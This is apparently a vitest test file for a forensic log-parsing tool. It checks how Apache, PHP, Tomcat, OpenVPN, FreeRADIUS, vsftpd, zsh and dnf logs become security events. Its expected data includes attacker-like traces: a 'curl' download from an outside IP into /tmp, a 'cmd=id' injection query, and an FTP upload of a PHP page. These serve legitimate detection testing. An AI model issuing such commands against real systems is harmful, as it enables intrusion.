import { readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { openPart, sampleOfBytes } from '../src/evidence/index.ts'
import { type Diagnostic, type EvidenceId, isoFromMicros, type SecurityEvent } from '../src/model/index.ts'
import { recognise } from '../src/pipeline/look.ts'
import { readers } from '../src/readers/registry.ts'
import { columnsOf } from './text-part.ts'

const FOLDER = join(import.meta.dirname, 'recordings', 'services')

/** What a hunt makes of a recording that lay at `path`: time of day and columns of each event. */
function read(name: string, path = name) {
  const file = join(FOLDER, name)
  const sample = sampleOfBytes(path, readFileSync(file))
  const reader = recognise(sample, readers)
  const events: SecurityEvent[] = []
  const diagnostics: Diagnostic[] = []
  const facts = {
    evidence: 'recording' as EvidenceId,
    path,
    part: 0,
    start: 0,
    end: statSync(file).size,
    firstLine: 1,
    headerLines: [],
  }
  const { part, close } = openPart(file, { ...facts, facts: { host: 'gw01' }, encoding: sample.encoding ?? 'latin1' })
  reader?.read(part, { event: event => events.push(event), diagnostic: diagnostic => diagnostics.push(diagnostic) })
  close()
  return { format: reader?.format, builtFrom: reader?.about?.builtFrom, events, diagnostics }
}

const told = (events: readonly SecurityEvent[]) =>
  events.map(event => [event.time === undefined ? '' : isoFromMicros(event.time).slice(0, 19), columnsOf(event)])
const meaningful = (events: readonly SecurityEvent[]) => events.filter(({ kind }) => kind !== 'other_activity')
const messages = (events: readonly SecurityEvent[]) =>
  events.flatMap(event => (event.kind === 'other_activity' ? [`${event.code}|${event.srcIp ?? ''}|${event.message}`] : []))

test.each([
  ['apache-access.log', 'access-log', 14],
  ['apache-vhosts.log', 'access-log', 14],
  ['apache-error.log', 'apache-error', 15],
  ['php-error.log', 'php-error', 4],
  ['php-fpm.log', 'php-error', 8],
  ['tomcat-access.log', 'access-log', 5],
  ['tomcat-catalina.log', 'tomcat-log', 0],
  ['tomcat-localhost.log', 'tomcat-log', 1],
  ['dhcpd.leases', 'dhcp-isc', 2],
  ['openvpn.log', 'openvpn', 78],
  ['openvpn-status.log', 'openvpn-status', 1],
  ['freeradius.log', 'freeradius', 11],
  ['vsftpd.log', 'vsftpd', 8],
  ['xferlog', 'xferlog', 2],
  ['zsh_history', 'shell-history', 4],
  ['dnf.log', 'dnf-log', 2],
  ['dnf.rpm.log', 'dnf-log', 2],
])('%s is read as %s, all of it', (name, format, records) => {
  const { events, diagnostics, ...about } = read(name)
  expect(about.format).toBe(format)
  expect(about.builtFrom).not.toBe('documentation')
  expect(diagnostics.filter(({ level }) => level !== 'note')).toEqual([])
  if (records > 0) expect(events).toHaveLength(records)
})

describe('Apache', () => {
  const at = '2026-11-23T20:34:28'
  test('requests with referrer, query, account and virtual host', () => {
    const agent = { userAgent: 'curl/7.88.1', virtualHost: 'www.example', serverPort: 80 }
    const request = { kind: 'http_activity', clientIp: '127.0.0.1', method: 'GET' }
    const rows = told(read('apache-vhosts.log').events)
    expect([0, 1, 5, 7].map(index => rows[index])).toEqual([
      [
        at,
        {
          ...request,
          path: '/index.html',
          status: 200,
          bytes: 233,
          referrer: 'https://www.example/start',
          ...agent,
          userAgent: 'Mozilla/5.0 (X11; Linux x86_64)',
        },
      ],
      [at, { ...request, path: '/missing.jsp', query: 'cmd=id', status: 404, bytes: 397, ...agent }],
      [at, { ...request, path: '/closed/', status: 401, bytes: 625, user: 'ora', ...agent }],
      [
        at,
        {
          ...request,
          method: 'POST',
          path: '/noisy.php',
          status: 500,
          bytes: 185,
          referrer: 'https://www.example/form',
          ...agent,
        },
      ],
    ])
  })

  test('refused log-ins, refused paths, errors of PHP with the client, error output of a program', () => {
    const { events } = read('apache-error.log')
    const refused = { kind: 'authentication', action: 'logon', outcome: 'failure', srcIp: '127.0.0.1', protocol: 'web' }
    expect(told(meaningful(events))).toEqual([
      [at, { ...refused, user: 'ora', reason: 'AH01617: user ora: authentication failure for "/closed/": Password Mismatch' }],
      [at, { ...refused, user: 'nobody', reason: 'AH01618: user nobody not found: /closed/' }],
    ])
    const said = messages(events)
    expect(said).toContain('error|127.0.0.1|AH01630: client denied by server configuration: /srv/www/never')
    expect(said.find(line => line.includes('AH01071'))).toMatch(
      /^error\|127\.0\.0\.1\|AH01071: Got error 'PHP message: order 4711 was not found; PHP message: PHP Warning: .*referer: https:\/\/www\.example\/form$/s,
    )
    expect(said).toContain('||tool: not found')
    expect(said).toContain(
      'error||(111)Connection refused: AH00957: http: attempt to connect to 127.0.0.1:29199 (127.0.0.1:29199) failed',
    )
  })
})

test('PHP names its zone, php-fpm does not; a trace belongs to its error', () => {
  expect(told(read('php-error.log').events).at(-1)).toEqual([
    '2026-11-23T20:34:28',
    {
      kind: 'other_activity',
      message:
        'PHP Fatal error:  Uncaught RuntimeException: database is not reachable in /srv/www/noisy.php:5\nStack trace:\n#0 {main}\n  thrown in /srv/www/noisy.php on line 5',
    },
  ])
  expect(messages(read('php-fpm.log').events).filter(line => line.startsWith('warning'))).toEqual([
    expect.stringMatching(
      /^warning\|\|\[pool other\] child \d+, script '\/srv\/www\/slow\.php' \(request: "GET \/slow\.php"\) execution timed out/,
    ),
    expect.stringMatching(/^warning\|\|\[pool other\] child \d+ exited on signal 15/),
  ])
})

test('Tomcat: an application comes, fails and goes', () => {
  expect(meaningful(read('tomcat-catalina.log').events).map(columnsOf)).toEqual([
    { kind: 'service_activity', action: 'start', name: 'shop.war', path: '/srv/tomcat/webapps/shop.war' },
    { kind: 'service_activity', action: 'stop', name: '/shop' },
  ])
  const [failure] = messages(read('tomcat-localhost.log').events)
  expect(failure).toMatch(/^severe\|\|Servlet\.service\(\) for servlet \[jsp\] in context with path \[\/shop\] threw exception/)
  expect(failure).toContain('java.lang.NullPointerException')
})

test('leases of dhcpd', () => {
  expect(told(read('dhcpd.leases').events)).toEqual([
    [
      '2026-11-23T20:27:19',
      { kind: 'dhcp_activity', mac: '02:00:00:00:57:01', assignedIp: '192.0.2.100', clientName: 'ws11', leaseSeconds: 600 },
    ],
    [
      '2026-11-23T20:27:22',
      { kind: 'dhcp_activity', mac: '02:00:00:00:57:02', assignedIp: '192.0.2.101', clientName: 'laptop7', leaseSeconds: 600 },
    ],
  ])
})

describe('OpenVPN', () => {
  test('a wrong password is one failure and no log-in, though the tunnel was initiated; a stranger fails; a right one succeeds', () => {
    const logons = read('openvpn.log').events.filter(({ kind }) => kind === 'authentication')
    const logon = { kind: 'authentication', action: 'logon', srcIp: '192.0.2.9', protocol: 'ssl-vpn' }
    expect(told(logons)).toEqual([
      [
        '2026-11-23T20:28:29',
        {
          ...logon,
          outcome: 'failure',
          user: 'ora',
          reason: 'TLS Auth Error: Auth Username/Password verification failed for peer',
        },
      ],
      [
        '2026-11-23T20:28:31',
        {
          ...logon,
          outcome: 'failure',
          reason:
            'VERIFY ERROR: depth=0, error=self-signed certificate: CN=stranger, serial=67320318679144380759754127758835975794473072899',
        },
      ],
      ['2026-11-23T20:28:40', { ...logon, outcome: 'success', user: 'ora' }],
    ])
  })

  test('tunnels of who was let in', () => {
    const tunnels = read('openvpn.log').events.filter(event => event.kind === 'tunnel_activity' && event.user === 'ora')
    expect(tunnels.map(event => event.kind === 'tunnel_activity' && [event.action, event.srcIp, event.assignedIp])).toEqual([
      ['up', '192.0.2.9', undefined],
      ['assigned', '192.0.2.9', '10.8.0.4'],
      ['down', '192.0.2.9', undefined],
    ])
  })

  test('the status file', () => {
    expect(told(read('openvpn-status.log').events)).toEqual([
      [
        '2026-11-23T20:28:40',
        {
          kind: 'tunnel_activity',
          action: 'seen',
          protocol: 'openvpn',
          user: 'ora',
          srcIp: '192.0.2.9',
          assignedIp: '10.8.0.4',
          bytesIn: 2994,
          bytesOut: 2938,
        },
      ],
    ])
  })
})

test('FreeRADIUS: who was let in and who not, with the calling station', () => {
  const logon = { kind: 'authentication', action: 'logon', target: 'localhost', protocol: 'radius' }
  expect(told(meaningful(read('freeradius.log').events))).toEqual([
    ['2026-11-23T20:34:20', { ...logon, outcome: 'success', user: 'ora', srcIp: '203.0.113.9' }],
    [
      '2026-11-23T20:34:21',
      {
        ...logon,
        outcome: 'failure',
        user: 'ora',
        srcIp: '203.0.113.9',
        reason: 'pap: Cleartext password does not match "known good" password',
      },
    ],
    [
      '2026-11-23T20:34:22',
      {
        ...logon,
        outcome: 'failure',
        user: 'nobody',
        srcIp: '198.51.100.4',
        reason: 'No Auth-Type found: rejecting the user via Post-Auth-Type = Reject',
      },
    ],
  ])
})

test('vsftpd: the same two transfers in its own log and in xferlog', () => {
  const files = read('vsftpd.log').events.filter(({ kind }) => kind === 'file_activity')
  const transfer = { kind: 'file_activity', srcIp: '127.0.0.1' }
  expect(files.map(columnsOf)).toEqual([
    { ...transfer, action: 'read', path: '/readme.txt', user: 'ftp', pid: 9113, image: 'vsftpd', size: 6 },
    { ...transfer, action: 'create', path: '/in/page.php', user: 'ftp', pid: 9119, image: 'vsftpd', size: 5 },
  ])
  expect(told(read('xferlog').events)).toEqual([
    ['2026-11-23T20:27:48', { ...transfer, action: 'read', path: '/readme.txt', user: 'ftp@example.com', image: 'ftp', size: 6 }],
    [
      '2026-11-23T20:27:48',
      { ...transfer, action: 'create', path: '/in/page.php', user: 'ftp@example.com', image: 'ftp', size: 5 },
    ],
  ])
})

test('zsh: commands of several lines, and letters beyond ASCII as they were typed', () => {
  const { events } = read('zsh_history', 'home/ora/.zsh_history')
  expect(events.map(event => event.kind === 'process_activity' && [event.image, event.commandLine, event.user])).toEqual([
    ['curl', 'curl -s http://203.0.113.9/a -o /tmp/a', 'ora'],
    ['id', 'sudo id', 'ora'],
    ['for', 'for name in a b; do\necho $name\ndone', 'ora'],
    ['echo', 'echo größe', 'ora'],
  ])
})

test('dnf: commands in dnf.log, packages in dnf.rpm.log', () => {
  expect(
    read('dnf.log').events.map(event => event.kind === 'process_activity' && event.commandLine?.split(' ').slice(-2)),
  ).toEqual([
    ['install', '/srv/rpm/RPMS/noarch/tunnel-tool-1.0-1.noarch.rpm'],
    ['remove', 'tunnel-tool'],
  ])
  expect(messages(read('dnf.rpm.log').events)).toEqual([
    '||package installed: tunnel-tool-1.0-1.noarch',
    '||package erased: tunnel-tool-1.0-1.noarch',
  ])
})
